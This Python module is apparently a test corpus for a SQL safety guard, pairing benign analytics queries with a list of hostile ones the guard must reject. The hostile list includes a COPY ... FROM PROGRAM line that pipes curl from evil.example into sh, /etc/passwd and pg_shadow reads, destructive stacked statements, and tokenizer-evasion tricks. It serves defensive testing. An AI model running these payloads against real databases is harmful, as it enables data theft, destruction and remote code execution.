"""SQL corpus for the guard tests.

LEGIT: analytics queries over the demo tables that the guard must accept AND that
Polars' SQL engine must run:
    flights(year, month, day, dep_delay, arr_delay, carrier, origin, dest, distance, air_time, time_hour)
    airlines(carrier, name)
    sales(order_date, region, product, units, revenue)

HOSTILE: queries the guard must refuse. They cover every rule in
convoinsight.sql.guard, each in several disguises (case, quoting, comments,
nesting in CTEs / subqueries / UNION branches / scalar subqueries).
"""

from __future__ import annotations

LEGIT: list[str] = [
    # --- plain aggregates, ORDER / LIMIT
    "SELECT carrier, COUNT(*) AS n FROM flights GROUP BY carrier ORDER BY n DESC",
    "SELECT * FROM flights ORDER BY distance DESC LIMIT 5",
    "SELECT origin, dest, distance FROM flights ORDER BY distance DESC, origin LIMIT 3 OFFSET 1",
    "SELECT COUNT(DISTINCT carrier) AS carriers, COUNT(DISTINCT dest) AS dests FROM flights",
    "SELECT origin, MEDIAN(dep_delay) AS median_dep FROM flights GROUP BY origin",
    "SELECT MIN(distance) AS shortest, MAX(distance) AS longest, AVG(distance) AS mean FROM flights",
    "SELECT carrier, STDDEV(arr_delay) AS sd, VARIANCE(arr_delay) AS var FROM flights GROUP BY carrier",
    "SELECT QUANTILE_CONT(arr_delay, 0.9) AS p90 FROM flights",
    "SELECT region, SUM(revenue) AS revenue, SUM(units) AS units FROM sales GROUP BY region",
    "SELECT DISTINCT origin FROM flights ORDER BY origin",
    "select carrier, round(avg(arr_delay), 2) as avg_arr from flights group by carrier",
    "SELECT product, STRING_AGG(region, ',') AS regions FROM sales GROUP BY product",
    # --- joins
    "SELECT f.carrier, a.name, AVG(f.arr_delay) AS avg_delay FROM flights f "
    "JOIN airlines a ON f.carrier = a.carrier GROUP BY f.carrier, a.name ORDER BY avg_delay DESC",
    "SELECT a.name, COUNT(*) AS n FROM flights AS f LEFT JOIN airlines AS a ON a.carrier = f.carrier "
    "GROUP BY a.name",
    "SELECT a.name, f.dest FROM airlines a INNER JOIN flights f USING (carrier) WHERE f.distance > 150",
    "SELECT a.name, COUNT(f.carrier) AS n FROM airlines a LEFT OUTER JOIN flights f "
    "ON f.carrier = a.carrier GROUP BY a.name",
    "SELECT f.origin, s.region FROM flights f CROSS JOIN sales s LIMIT 4",
    # --- CASE, HAVING, filters
    "SELECT carrier, SUM(CASE WHEN arr_delay > 15 THEN 1 ELSE 0 END) AS late, COUNT(*) AS total "
    "FROM flights GROUP BY carrier",
    "SELECT CASE carrier WHEN 'AA' THEN 'American' ELSE 'Other' END AS airline FROM flights",
    "SELECT dest, COUNT(*) AS n FROM flights GROUP BY dest HAVING COUNT(*) >= 1 ORDER BY n DESC",
    "SELECT carrier, AVG(dep_delay) AS d FROM flights GROUP BY carrier HAVING AVG(dep_delay) IS NOT NULL",
    "SELECT * FROM flights WHERE month BETWEEN 1 AND 6 AND origin IN ('JFK', 'LGA')",
    "SELECT * FROM flights WHERE dep_delay IS NULL OR arr_delay > 2",
    "SELECT * FROM flights WHERE carrier NOT IN ('XX', 'YY') AND dest <> 'SFO'",
    "SELECT name FROM airlines WHERE name ILIKE '%united%' OR name LIKE 'American%'",
    "SELECT * FROM flights WHERE NOT (distance < 120)",
    "SELECT * FROM flights WHERE time_hour >= CAST('2013-01-15' AS TIMESTAMP)",
    # --- date buckets and date parts
    "SELECT DATE_TRUNC('month', time_hour) AS month_start, AVG(dep_delay) AS avg_dep "
    "FROM flights GROUP BY 1 ORDER BY 1",
    "SELECT DATE_TRUNC('week', order_date) AS wk, SUM(revenue) AS rev FROM sales "
    "GROUP BY DATE_TRUNC('week', order_date) ORDER BY wk",
    "SELECT date_trunc('day', time_hour) AS d, count(*) AS n FROM flights GROUP BY 1",
    "SELECT EXTRACT(YEAR FROM order_date) AS yr, SUM(units) AS units FROM sales GROUP BY 1",
    "SELECT DATE_PART('month', order_date) AS m, SUM(revenue) AS rev FROM sales GROUP BY 1",
    "SELECT STRFTIME(time_hour, '%Y-%m') AS ym, COUNT(*) AS n FROM flights GROUP BY 1",
    "SELECT order_date + INTERVAL '7 days' AS due, revenue FROM sales",
    "SELECT YEAR(order_date) AS y, MONTH(order_date) AS m, SUM(revenue) AS rev FROM sales GROUP BY 1, 2",
    # --- window functions and QUALIFY
    "SELECT carrier, dest, arr_delay FROM flights "
    "QUALIFY ROW_NUMBER() OVER (PARTITION BY carrier ORDER BY arr_delay DESC) = 1",
    "SELECT region, order_date, revenue, SUM(revenue) OVER (PARTITION BY region ORDER BY order_date) "
    "AS running FROM sales",
    "SELECT carrier, SUM(arr_delay) AS s, RANK() OVER (ORDER BY SUM(arr_delay) DESC) AS r "
    "FROM flights GROUP BY carrier",
    "SELECT order_date, revenue, revenue - LAG(revenue) OVER (ORDER BY order_date) AS change FROM sales",
    "SELECT order_date, LEAD(revenue, 1) OVER (ORDER BY order_date) AS next_rev FROM sales",
    "SELECT carrier, arr_delay, NTILE(2) OVER (ORDER BY arr_delay) AS half FROM flights",
    "SELECT arr_delay, PERCENT_RANK() OVER (ORDER BY arr_delay) AS pr, "
    "CUME_DIST() OVER (ORDER BY arr_delay) AS cd FROM flights",
    "SELECT carrier, FIRST_VALUE(dest) OVER (PARTITION BY carrier ORDER BY time_hour) AS first_dest, "
    "LAST_VALUE(dest) OVER (PARTITION BY carrier ORDER BY time_hour) AS last_dest FROM flights",
    "SELECT order_date, AVG(revenue) OVER (ORDER BY order_date ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) "
    "AS moving_avg FROM sales",
    "SELECT carrier, dest, DENSE_RANK() OVER (PARTITION BY carrier ORDER BY distance DESC) AS dr "
    "FROM flights",
    # --- CTEs
    "WITH monthly AS (SELECT DATE_TRUNC('month', order_date) AS m, region, SUM(revenue) AS rev "
    "FROM sales GROUP BY 1, 2) SELECT region, AVG(rev) AS avg_monthly FROM monthly GROUP BY region",
    "WITH delays AS (SELECT carrier, AVG(arr_delay) AS avg_delay FROM flights GROUP BY carrier), "
    "ranked AS (SELECT carrier, avg_delay, DENSE_RANK() OVER (ORDER BY avg_delay DESC) AS rnk FROM delays) "
    "SELECT r.carrier, a.name, r.avg_delay FROM ranked r JOIN airlines a ON a.carrier = r.carrier "
    "WHERE r.rnk <= 3",
    "WITH secrets AS (SELECT carrier FROM airlines) SELECT * FROM secrets",
    "WITH a AS (SELECT origin AS airport FROM flights), b AS (SELECT airport FROM a) "
    "SELECT airport, COUNT(*) AS n FROM b GROUP BY airport",
    "SELECT * FROM (WITH x AS (SELECT dest FROM flights) SELECT dest FROM x) sub",
    # --- set operations
    "SELECT origin AS airport, COUNT(*) AS n FROM flights GROUP BY origin "
    "UNION ALL SELECT dest AS airport, COUNT(*) AS n FROM flights GROUP BY dest",
    "SELECT carrier FROM flights UNION SELECT carrier FROM airlines",
    "SELECT carrier FROM flights EXCEPT SELECT carrier FROM airlines WHERE carrier = 'AA'",
    "SELECT carrier FROM flights INTERSECT SELECT carrier FROM airlines",
    "WITH t AS (SELECT region, revenue FROM sales) SELECT region FROM t UNION ALL SELECT region FROM t",
    # --- subqueries
    "SELECT carrier, avg_delay FROM (SELECT carrier, AVG(arr_delay) AS avg_delay FROM flights "
    "GROUP BY carrier) t WHERE avg_delay > 0",
    "SELECT * FROM flights WHERE carrier IN (SELECT carrier FROM airlines WHERE name LIKE '%American%')",
    "SELECT carrier, arr_delay FROM flights WHERE arr_delay > (SELECT AVG(arr_delay) FROM flights)",
    "SELECT carrier, (SELECT COUNT(*) FROM sales) AS sales_rows FROM flights",
    "SELECT name FROM airlines a WHERE EXISTS (SELECT 1 FROM flights f WHERE f.carrier = a.carrier)",
    # --- scalar functions, casts
    "SELECT carrier, COALESCE(dep_delay, 0) AS dep FROM flights",
    "SELECT revenue / NULLIF(units, 0) AS unit_price FROM sales",
    "SELECT CAST(distance AS INTEGER) AS d, arr_delay::INTEGER AS a, CAST(year AS BIGINT) AS y FROM flights",
    "SELECT CAST(distance AS NUMERIC(10, 2)) AS d, CAST(carrier AS TEXT) AS c FROM flights",
    "SELECT LOWER(carrier) AS lc, UPPER(name) AS un, LENGTH(name) AS len FROM airlines",
    "SELECT SUBSTR(name, 1, 3) AS abbrev, TRIM(name) AS trimmed FROM airlines",
    "SELECT CONCAT(origin, '-', dest) AS route, origin || '>' || dest AS route2 FROM flights",
    "SELECT GREATEST(dep_delay, arr_delay) AS worst, LEAST(dep_delay, arr_delay) AS best FROM flights",
    "SELECT ABS(arr_delay) AS a, SQRT(distance) AS s, POWER(distance, 2) AS p, FLOOR(air_time / 60) AS h, "
    "CEIL(distance / 100) AS c FROM flights",
    "SELECT REPLACE(name, 'Inc.', '') AS clean FROM airlines WHERE STARTS_WITH(name, 'A')",
    "SELECT origin, dest FROM flights WHERE dep_delay IS DISTINCT FROM arr_delay",
    "SELECT SUM(revenue) AS rev FROM sales WHERE order_date >= CURRENT_DATE - INTERVAL '20000 days'",
    # --- quoting, comments, trailing semicolons, keyword case
    'SELECT "carrier", "name" FROM "airlines"',
    "-- busiest origins\nSELECT origin, COUNT(*) AS n FROM flights GROUP BY origin ORDER BY n DESC LIMIT 3;",
    "SELECT /* revenue per region */ region, SUM(revenue) AS rev FROM sales GROUP BY region ;  ",
    "select * from FLIGHTS where carrier = 'AA'",
]

_PASSWD = "'/etc/passwd'"

HOSTILE: list[str] = [
    # --- empty / unparsable
    "",
    "   ",
    ";",
    "-- nothing but a comment",
    "SELECT",
    "SELEC * FROM flights",
    "SELECT * FROM flights WHERE",
    # --- more than one statement
    "SELECT 1; SELECT 2",
    "SELECT 1; DROP TABLE flights",
    "SELECT * FROM flights; DELETE FROM flights",
    "SELECT 1 /* first */ ; /* second */ DROP TABLE flights",
    "SELECT 1; -- harmless?\nUPDATE flights SET carrier = 'XX'",
    "select 1;\n\ndrop table sales;",
    "SELECT 1;;SELECT 2",
    "SELECT carrier FROM flights;\nTRUNCATE airlines",
    # --- data changes and DDL at top level
    "DELETE FROM flights",
    "DeLeTe FrOm flights WHERE 1 = 1",
    "UPDATE flights SET dep_delay = 0",
    "INSERT INTO flights SELECT * FROM flights",
    "INSERT INTO sales (region, units) VALUES ('x', 1)",
    "MERGE INTO flights f USING airlines a ON f.carrier = a.carrier WHEN MATCHED THEN DELETE",
    "DROP TABLE flights",
    "drop table if exists flights cascade",
    "CREATE TABLE stolen AS SELECT * FROM flights",
    "CREATE VIEW v AS SELECT 1",
    "CREATE OR REPLACE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
    "ALTER TABLE flights ADD COLUMN pwned int",
    "ALTER ROLE postgres WITH PASSWORD 'pwned'",
    "TRUNCATE flights",
    "TRUNCATE TABLE sales",
    "COPY flights TO '/tmp/out.csv'",
    "COPY flights FROM PROGRAM 'curl http://evil.example/x | sh'",
    "COPY (SELECT * FROM flights) TO STDOUT",
    "GRANT ALL ON flights TO PUBLIC",
    "REVOKE SELECT ON flights FROM analyst",
    "SET search_path = pg_catalog",
    "SET ROLE postgres",
    "RESET ALL",
    "ATTACH 'evil.db' AS evil",
    "ATTACH DATABASE '/tmp/evil.db' AS evil",
    "DETACH evil",
    "PRAGMA table_info('flights')",
    "CALL do_evil()",
    "EXECUTE evil_statement",
    "PREPARE p AS SELECT * FROM secrets",
    "LOAD 'httpfs'",
    "INSTALL httpfs",
    "VACUUM",
    "ANALYZE flights",
    "EXPLAIN SELECT * FROM flights",
    "EXPLAIN ANALYZE DELETE FROM flights",
    "SHOW TABLES",
    "DO $$ BEGIN PERFORM pg_sleep(10); END $$",
    "LISTEN channel",
    "NOTIFY channel, 'x'",
    "BEGIN",
    "COMMIT",
    "LOCK TABLE flights IN ACCESS EXCLUSIVE MODE",
    "DECLARE c CURSOR FOR SELECT * FROM flights",
    "DESCRIBE flights",
    "EXPORT DATABASE '/tmp/dump'",
    "CHECKPOINT",
    "VALUES (1), (2)",
    "TABLE secrets",
    # --- data changes hidden inside a query
    "WITH d AS (DELETE FROM flights RETURNING *) SELECT * FROM d",
    "WITH u AS (UPDATE flights SET dep_delay = 0 RETURNING *) SELECT COUNT(*) FROM u",
    "WITH i AS (INSERT INTO sales SELECT * FROM sales RETURNING *) SELECT * FROM i",
    "SELECT * FROM flights WHERE carrier IN "
    "(WITH d AS (DELETE FROM airlines RETURNING carrier) SELECT carrier FROM d)",
    "with keep as (select 1 as x), gone as (delete from sales returning *) select * from keep",
    # --- SELECT INTO and locking clauses
    "SELECT * INTO stolen FROM flights",
    "SELECT carrier INTO TEMP t FROM flights",
    "SELECT * FROM flights FOR UPDATE",
    "SELECT * FROM flights FOR SHARE",
    "SELECT * FROM flights FOR NO KEY UPDATE",
    "select * from flights for update skip locked",
    "SELECT * FROM (SELECT * FROM flights FOR UPDATE) t",
    # --- file and remote readers, as table functions or scalar calls
    f"SELECT * FROM read_csv({_PASSWD})",
    f"SeLeCt * FrOm ReAd_CsV({_PASSWD})",
    f"SELECT * FROM read_csv_auto({_PASSWD})",
    "SELECT * FROM read_parquet('s3://bucket/secret.parquet')",
    "SELECT * FROM read_json('/var/secrets.json')",
    "SELECT * FROM read_ndjson('/var/log/app.ndjson')",
    "SELECT * FROM read_ipc('/data/x.arrow')",
    "SELECT * FROM scan_parquet('/data/x.parquet')",
    "SELECT * FROM scan_csv('/data/x.csv')",
    f"SELECT read_csv({_PASSWD}) AS x",
    f"SELECT pg_read_file({_PASSWD})",
    f"SELECT PG_READ_BINARY_FILE({_PASSWD}) AS b FROM flights",
    f"SELECT lo_import({_PASSWD})",
    "SELECT lo_export(1234, '/tmp/x')",
    "SELECT * FROM dblink('host=evil.example', 'select 1') AS t(a int)",
    "SELECT dblink_exec('host=evil.example', 'drop table x')",
    "SELECT copy('flights')",
    f"SELECT carrier FROM flights UNION ALL SELECT * FROM read_csv({_PASSWD})",
    "WITH x AS (SELECT * FROM read_parquet('/data/secret.parquet')) SELECT * FROM x",
    f"SELECT * FROM flights WHERE carrier = (SELECT pg_read_file({_PASSWD}))",
    f'SELECT * FROM "read_csv"({_PASSWD})',
    f"SELECT f.carrier FROM flights f JOIN read_csv({_PASSWD}) p ON TRUE",
    # --- pg_* and session / server functions
    "SELECT pg_sleep(10)",
    "SELECT PG_SLEEP(10) FROM flights",
    "SELECT * FROM flights WHERE pg_sleep(1) IS NOT NULL",
    "SELECT carrier, (SELECT pg_sleep(5)) AS z FROM flights",
    "SELECT carrier FROM flights ORDER BY pg_sleep(1)",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT current_setting('data_directory')",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_cancel_backend(1)",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT pg_ls_dir('/')",
    "SELECT pg_stat_file('postgresql.conf')",
    "SELECT pg_backend_pid()",
    "SELECT pg_reload_conf()",
    "SELECT version()",
    "SELECT inet_server_addr()",
    "SELECT query_to_xml('select * from secrets', true, true, '')",
    "SELECT nextval('orders_id_seq')",
    "SELECT pg_advisory_lock(1)",
    "SELECT current_user",
    "SELECT session_user FROM flights",
    "SELECT user FROM flights",
    "SELECT current_schema",
    "SELECT carrier FROM flights WHERE EXISTS (SELECT pg_sleep(3))",
    "WITH s AS (SELECT pg_sleep(3) AS z) SELECT * FROM flights, s",
    "SELECT SUM(distance) OVER (ORDER BY pg_backend_pid()) AS x FROM flights",
    # --- table functions in FROM
    "SELECT * FROM generate_series(1, 1000000000)",
    "SELECT COUNT(*) FROM flights, generate_series(1, 100000) g",
    "SELECT * FROM unnest(ARRAY[1, 2, 3])",
    "SELECT * FROM json_each('{\"a\": 1}')",
    "SELECT * FROM flights, LATERAL (SELECT * FROM airlines) x",
    # --- schema / catalog qualified tables
    "SELECT * FROM public.flights",
    'SELECT * FROM "public"."flights"',
    "SELECT usename, passwd FROM pg_catalog.pg_shadow",
    "SELECT * FROM pg_catalog.pg_user",
    "SELECT * FROM information_schema.tables",
    "SELECT column_name FROM information_schema.columns WHERE table_name = 'secrets'",
    "SELECT * FROM mydb.public.flights",
    "SELECT * FROM main.flights",
    "SELECT public.flights.carrier FROM flights",
    "SELECT carrier FROM flights WHERE carrier IN (SELECT usename FROM pg_catalog.pg_user)",
    # --- tables outside the domain, in every position
    "SELECT * FROM secrets",
    "sElEcT * fRoM SECRETS",
    'SELECT * FROM "secrets"',
    'SELECT * FROM "Flights"',
    "SELECT * FROM users",
    "SELECT * FROM pg_user",
    "SELECT * FROM pg_shadow",
    "SELECT * FROM pg_stat_activity",
    "SELECT * FROM sqlite_master",
    "SELECT f.carrier, s.token FROM flights f JOIN secrets s ON TRUE",
    "SELECT carrier, (SELECT password FROM users LIMIT 1) AS pw FROM flights",
    "SELECT * FROM flights WHERE EXISTS (SELECT 1 FROM secrets)",
    "SELECT carrier FROM flights UNION ALL SELECT token FROM secrets",
    "SELECT carrier FROM flights UNION SELECT carrier FROM airlines UNION SELECT token FROM secrets",
    "WITH x AS (SELECT * FROM secrets) SELECT * FROM x",
    "SELECT * FROM (SELECT * FROM (SELECT * FROM secrets) a) b",
    "SELECT * FROM flights WHERE carrier = ANY (SELECT token FROM secrets)",
    # CTE scoping tricks: these names resolve to the REAL table in PostgreSQL
    "WITH x AS (SELECT * FROM secrets), secrets AS (SELECT 1 AS a) SELECT * FROM x",
    "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
    "SELECT * FROM (WITH secrets AS (SELECT 1 AS a) SELECT * FROM secrets) x, secrets",
    "SELECT * FROM flights WHERE carrier IN (WITH s AS (SELECT 1) SELECT token FROM secrets)",
    # --- other refused constructs
    "SELECT * FROM (VALUES (1, 'a')) AS v(id, name)",
    "SELECT * FROM flights WHERE carrier IN (VALUES ('AA'))",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT COUNT(*) FROM r",
    "SELECT * FROM flights TABLESAMPLE SYSTEM (10)",
    "SELECT * FROM ONLY flights",
    "SELECT * FROM flights WHERE carrier = $1",
    "SELECT 'pg_shadow'::regclass",
    "SELECT $$ hidden $$ AS x FROM flights",
    "SELECT E'\\x41' AS x",
    "SELECT ARRAY[1, 2] AS a",
    "SELECT carrier::int[] AS a FROM flights",
    # parser-differential bait: nested block comments
    f"SELECT * /* /* */ FROM read_csv({_PASSWD}) -- */ FROM flights",
    "SELECT * FROM flights /* outer /* inner */ still a comment */",
    # tokenizer-disagreement bait: sqlglot reads these characters as whitespace, PostgreSQL does not
    "SELECT * FROM flights\u00a0secrets",
    "SELECT * FROM flights\x0bsecrets",
    "SELECT pg_sleep\u200b(1)",
    "SELECT 1 AS x\x00",
    # schema-qualified functions and nested joins that hide a table
    "SELECT pg_catalog.pg_sleep(1)",
    "SELECT public.median(arr_delay) FROM flights",
    "SELECT * FROM flights f JOIN (airlines a JOIN secrets s ON TRUE) ON TRUE",
    "SELECT * FROM flights WHERE carrier = (TABLE secrets)",
    "SELECT current_database()",
    "SELECT txid_current()",
    # absurd input
    "SELECT " + "(" * 3000 + "1" + ")" * 3000,
    "SELECT " + " + ".join(["distance"] * 3000) + " AS x FROM flights",
]
